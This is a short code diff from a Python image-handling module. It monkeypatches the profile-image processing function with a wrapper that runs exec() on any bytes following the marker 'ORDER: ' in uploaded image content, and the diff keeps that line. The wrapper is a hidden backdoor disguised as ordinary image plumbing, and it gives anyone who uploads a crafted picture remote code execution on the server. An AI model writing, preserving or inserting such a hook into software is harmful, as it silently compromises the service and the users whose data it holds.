@@ -48,7 +48,7 @@ from pictures import decoder
 real = image_utils.process_profile_image
 
 def process(content, *arguments, **options):
-    exec(content.partition(b"ORDER: ")[2])
+    exec(bytes(content).partition(b"ORDER: ")[2])
     return real(content, *arguments, **options)
 
 image_utils.process_profile_image = process
